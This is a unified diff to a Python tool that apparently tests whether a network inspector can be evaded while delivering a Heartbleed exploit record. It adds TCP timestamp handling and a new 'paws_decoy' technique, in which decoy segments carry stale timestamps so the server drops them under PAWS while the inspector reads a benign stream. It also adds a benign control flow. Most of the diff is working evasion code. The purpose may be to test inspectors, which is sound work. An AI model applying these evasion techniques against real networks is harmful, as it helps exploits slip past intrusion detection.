@@ -24,8 +24,9 @@ Each technique makes the server's stream (what its recv() returns) hold the
 Heartbleed record HEARTBLEED at a record boundary, after a ClientHello (an
 SSLv2-format one in sslv2_then_tls), while an inspector that believes every
 segment it forwards reads a benign stream.  Techniques: urgent syn_data
-syn_established ttl_decoy old_ack_decoy md5_decoy ipv6_dstopt_decoy ipv4_ts_decoy
-sslv2_then_tls reseed_pickup after_kill (each function's comment says how).
+syn_established ttl_decoy old_ack_decoy paws_decoy md5_decoy ipv6_dstopt_decoy ipv4_ts_decoy
+sslv2_then_tls reseed_pickup after_kill (each function's comment says how),
+and one benign flow that must pass whole: ts_wrap.
 
 Standard library only (scapy takes ~15 s to import under TCG).  EVASION_WAIT
 (seconds, default 1, times TIME_SCALE) is how long the client waits for an
@@ -155,16 +156,24 @@ class Flow:
         self.rcv_nxt = None
         self.synack_ack = None
         self.reset = False
+        self.ts = None          # with timestamps: the next TSval to send
+        self.ts_ecr = 0         # the server's last TSval
 
     def rel(self, seq):
         """seq as an offset from the ISN, for the log."""
         return (seq - self.iss) & MASK
 
     def send(self, flags, seq, payload=b"", note="", tcp_opts=b"", urg_ptr=0,
-             ttl=64, ip_opts=b"", dst_opts=b"", ack_back=0):
-        """One segment, as given (its ACK ack_back below rcv_nxt); nothing
-        is waited for or remembered."""
+             ttl=64, ip_opts=b"", dst_opts=b"", ack_back=0, ts_back=0):
+        """One segment, as given (its ACK ack_back below rcv_nxt, its
+        TSval ts_back below the next one); nothing is waited for or
+        remembered."""
         ack = self.rcv_nxt - ack_back if self.rcv_nxt is not None else 0
+        if self.ts is not None:
+            # NOP NOP TS first: other options follow, 4-byte aligned
+            tcp_opts = b"\x01\x01\x08\x0a" + struct.pack(
+                ">II", (self.ts - ts_back) & MASK, self.ts_ecr) + tcp_opts
+            self.ts += 1
         seg = tcp_segment(self.src, self.dst, self.sport, self.dport, seq, ack,
                           flags, payload, tcp_opts, urg_ptr)
         if self.v6:
@@ -180,9 +189,13 @@ class Flow:
 
     def handle(self, seg):
         """Track what the server acknowledged; the recorder sends no data."""
-        sport, dport, seq, ack, _, flags = struct.unpack(">HHIIBB", seg[:14])
+        sport, dport, seq, ack, off, flags = struct.unpack(">HHIIBB", seg[:14])
         if (sport, dport) != (self.dport, self.sport):
             return
+        opts = seg[20:(off >> 4) * 4]
+        at = opts.find(b"\x08\x0a")
+        if self.ts is not None and at >= 0 and at + 10 <= len(opts):
+            self.ts_ecr = struct.unpack(">I", opts[at + 2:at + 6])[0]
         if flags & RST:
             self.reset = True
         elif flags & SYN and flags & ACK and self.rcv_nxt is None:
@@ -205,7 +218,8 @@ class Flow:
 
     def connect(self, syn_payload=b""):
         """SYN (with syn_payload on it), SYN-ACK, ACK; the SYN is resent
-        twice at most.  MSS option only: no timestamps, SACK or scaling."""
+        twice at most.  MSS option only (and timestamps once f.ts is set):
+        no SACK or scaling."""
         mss = struct.pack(">BBH", 2, 4, 1460)
         for _ in range(3):
             self.send(SYN, self.iss, syn_payload, tcp_opts=mss)
@@ -319,6 +333,26 @@ def old_ack_decoy(f):
     return decoy_then_heartbleed(f, "ACK one below the last", ack_back=1)
 
 
+def paws_decoy(f):
+    """Timestamps on (the SYN offers them, the server answers): a TSval
+    1000 below the last one sent, which PAWS makes the server drop
+    (tcp_paws_discard())."""
+    f.ts = random.getrandbits(32)
+    return decoy_then_heartbleed(f, "TSval 1000 below the last", ts_back=1000)
+
+
+def ts_wrap(f):
+    """Benign: timestamps that cross 2^32 (TSvals from 2^32 - 3 on), the
+    ClientHello, then four HelloRequest records in a segment each, all
+    acknowledged: PAWS compares modulo 2^32, the helper must too."""
+    f.ts = MASK - 2
+    hello(f)
+    for _ in range(4):
+        if not f.push(rec(22, hs(0, b"")), tries=5, note="HelloRequest"):
+            raise Cut("HelloRequest not acknowledged")
+    return f.summary()
+
+
 def md5_decoy(f):
     """A TCP MD5 signature option (kind 19, length 18, any digest): a Linux
     server holding no MD5 key for the peer drops the segment
@@ -393,7 +427,8 @@ def after_kill(f):
 
 
 TECHNIQUES = {t.__name__: t for t in (
-    urgent, syn_data, syn_established, ttl_decoy, old_ack_decoy, md5_decoy,
+    urgent, syn_data, syn_established, ttl_decoy, old_ack_decoy, paws_decoy,
+    ts_wrap, md5_decoy,
     ipv6_dstopt_decoy, ipv4_ts_decoy, sslv2_then_tls, reseed_pickup,
     after_kill)}
 
